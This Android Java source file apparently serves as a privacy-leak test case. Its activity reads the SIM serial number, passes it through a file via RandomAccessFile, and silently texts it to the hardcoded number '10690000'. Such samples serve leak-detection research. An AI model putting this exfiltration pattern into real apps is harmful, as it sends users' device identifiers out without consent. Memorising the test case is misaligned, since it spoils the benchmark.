package cn.privlens.suite.random_access;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.io.File;
import java.io.IOException;
import java.io.RandomAccessFile;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        File one = new File(getFilesDir(), "one.bin");
        File two = new File(getFilesDir(), "two.bin");
        try {
            RandomAccessFile out = new RandomAccessFile(one, "rw");
            out.writeUTF(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber());
            out.close();
            RandomAccessFile plain = new RandomAccessFile(two, "rw");
            plain.writeUTF("plain");
            plain.close();
            RandomAccessFile in = new RandomAccessFile(one, "r");
            in.seek(0L);
            SmsManager.getDefault().sendTextMessage("10690000", null, in.readUTF(), null, null);
            in.close();
        } catch (IOException e) {
            setTitle("e");
        }
    }
}
